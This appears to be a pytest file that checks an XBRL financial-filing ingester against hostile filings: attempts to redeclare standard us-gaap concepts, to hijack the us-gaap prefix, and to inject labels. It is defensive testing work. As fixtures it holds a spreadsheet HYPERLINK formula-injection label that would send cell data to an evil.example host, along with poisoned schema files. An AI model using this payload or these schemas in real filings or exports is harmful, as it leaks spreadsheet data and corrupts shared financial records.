"""One filing may not rewrite what every filing shares (issue #28, item 3).

A concept is identified by its namespace, never by the prefix a document happens to bind; a filing may not
(re)declare a concept of a standard namespace (us-gaap, dei, srt …): the standard declaration stays and the
filing's attempt is reported as invalid; the labels a filing brings never replace a standard concept's label.
Each hostile filing goes through the real `auditgraph ingest filing` beside a real filing already loaded."""

from __future__ import annotations

import json

import pytest

from auditgraph.ingest.loader import unload_filing
from tests.faults.conftest import BASE_FOLDER, copy_filing, run_cli_here

FORMULA_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"Total assets")'
US_GAAP_2009 = "http://xbrl.us/us-gaap/2009-01-31"  # the namespace Netflix's 10-Q 2010 uses

REDECLARING_SCHEMA = f"""<?xml version="1.0" encoding="utf-8"?>
<schema xmlns="http://www.w3.org/2001/XMLSchema" xmlns:xbrli="http://www.xbrl.org/2003/instance"
  xmlns:us-gaap="{US_GAAP_2009}" targetNamespace="{US_GAAP_2009}" elementFormDefault="qualified">
  <import namespace="http://www.xbrl.org/2003/instance" schemaLocation="http://www.xbrl.org/2003/xbrl-instance-2003-12-31.xsd"/>
  <element id="us-gaap_Assets" name="Assets" type="xbrli:stringItemType" substitutionGroup="xbrli:item"
    xbrli:periodType="duration" xbrli:balance="credit" nillable="true"/>
  <element id="us-gaap_Liabilities" name="Liabilities" type="xbrli:stringItemType" substitutionGroup="xbrli:item"
    xbrli:periodType="duration" nillable="true"/>
</schema>
"""

PREFIX_HIJACK_SCHEMA = """<?xml version="1.0" encoding="utf-8"?>
<schema xmlns="http://www.w3.org/2001/XMLSchema" xmlns:xbrli="http://www.xbrl.org/2003/instance"
  xmlns:us-gaap="http://evil.example/2010" targetNamespace="http://evil.example/2010" elementFormDefault="qualified">
  <import namespace="http://www.xbrl.org/2003/instance" schemaLocation="http://www.xbrl.org/2003/xbrl-instance-2003-12-31.xsd"/>
  <element id="evil_Assets" name="Assets" type="xbrli:stringItemType" substitutionGroup="xbrli:item"
    xbrli:periodType="duration" xbrli:balance="credit" nillable="true"/>
</schema>
"""


def concept(store, qname: str) -> dict:
    rows = store.run("tools.concept", {"qname": qname})
    assert rows, qname
    row = dict(rows[0])
    row.pop("company_labels")  # every filing's own labels for the concept, added to (search reads them)
    return row


def _with_formula_label(folder) -> None:
    lab = folder / "nflx-20100930_lab.xml"
    text = lab.read_text(encoding="utf-8")
    old = 'xlink:label="us-gaap_Assets_lbl" xml:lang="en-US">Total assets</label>'
    assert text.count(old) == 2
    lab.write_text(
        text.replace(
            old,
            f'xlink:label="us-gaap_Assets_lbl" xml:lang="en-US">'
            f'{FORMULA_LABEL.replace("&", "&amp;").replace(chr(34), "&quot;")}</label>',
        ),
        encoding="utf-8",
    )


@pytest.fixture
def hostile_folder(tmp_path):
    return copy_filing(BASE_FOLDER, tmp_path / BASE_FOLDER)


def _ingest(settings, folder, accession, cik) -> tuple[int, dict]:
    r = run_cli_here(settings, ["ingest", "filing", str(folder), "--accession", accession, "--cik", cik, "--json"])
    return r.code, (
        json.loads(r.stdout) if r.stdout.strip().startswith("{") else {"stdout": r.stdout, "stderr": r.stderr}
    )


def test_a_filing_cannot_redeclare_a_standard_concept_for_every_filing(
    fault_settings, fault_store, base_filing, hostile_folder
):
    before = {q: concept(fault_store, q) for q in ("us-gaap:Assets", "us-gaap:Liabilities")}
    (hostile_folder / "zz-us-gaap-override.xsd").write_text(REDECLARING_SCHEMA, encoding="utf-8")
    _with_formula_label(hostile_folder)
    code, report = _ingest(fault_settings, hostile_folder, "HOSTILE-REDECLARE", base_filing.cik)
    try:
        assert code == 0, report
        after = {q: concept(fault_store, q) for q in before}
        assert after == before, (before, after)  # type, period type, balance, label, namespace: all as they were
        assert after["us-gaap:Assets"]["label"] != FORMULA_LABEL
        invalid = [i for i in report["invalid"] if i["kind"] == "concept"]
        assert invalid and "zz-us-gaap-override.xsd" in invalid[0]["reason"], report["invalid"]
        assert US_GAAP_2009 in invalid[0]["reason"] and "2 concept" in invalid[0]["reason"], invalid
        # the formula label is the filing's own label of the concept, not the standard one
        labels = fault_store.run("tools.concept", {"qname": "us-gaap:Assets"})[0]["company_labels"]
        assert FORMULA_LABEL in labels
    finally:
        unload_filing(fault_store, "HOSTILE-REDECLARE")
    assert {q: concept(fault_store, q) for q in before} == before


def test_strict_refuses_a_filing_that_redeclares_a_standard_concept(
    fault_settings, fault_store, base_filing, hostile_folder
):
    (hostile_folder / "zz-us-gaap-override.xsd").write_text(REDECLARING_SCHEMA, encoding="utf-8")
    r = run_cli_here(
        fault_settings,
        [
            "ingest",
            "filing",
            str(hostile_folder),
            "--accession",
            "HOSTILE-STRICT",
            "--cik",
            base_filing.cik,
            "--strict",
        ],
    )
    assert r.code == 2 and "zz-us-gaap-override.xsd" in r.reason, (r.code, r.stderr)
    assert not fault_store.run("ingest.filing_status", {"accession": "HOSTILE-STRICT"})


def test_a_prefix_bound_to_another_namespace_never_merges_into_the_standard_concepts(
    fault_settings, fault_store, base_filing, hostile_folder
):
    before = concept(fault_store, "us-gaap:Assets")
    # named to sort (and be read) before the company schema, so its prefix is the first one a document binds
    (hostile_folder / "aa-hijack.xsd").write_text(PREFIX_HIJACK_SCHEMA, encoding="utf-8")
    code, report = _ingest(fault_settings, hostile_folder, "HOSTILE-PREFIX", base_filing.cik)
    try:
        assert code == 0, report
        assert concept(fault_store, "us-gaap:Assets") == before
        # keyed by a prefix of its own (made from its namespace's host), never us-gaap's
        theirs = fault_store.run("tools.concept", {"qname": "evil:Assets"})
        assert theirs and theirs[0]["namespace"] == "http://evil.example/2010", theirs
        assert theirs[0]["data_type"] == "xbrli:stringItemType"
    finally:
        unload_filing(fault_store, "HOSTILE-PREFIX")
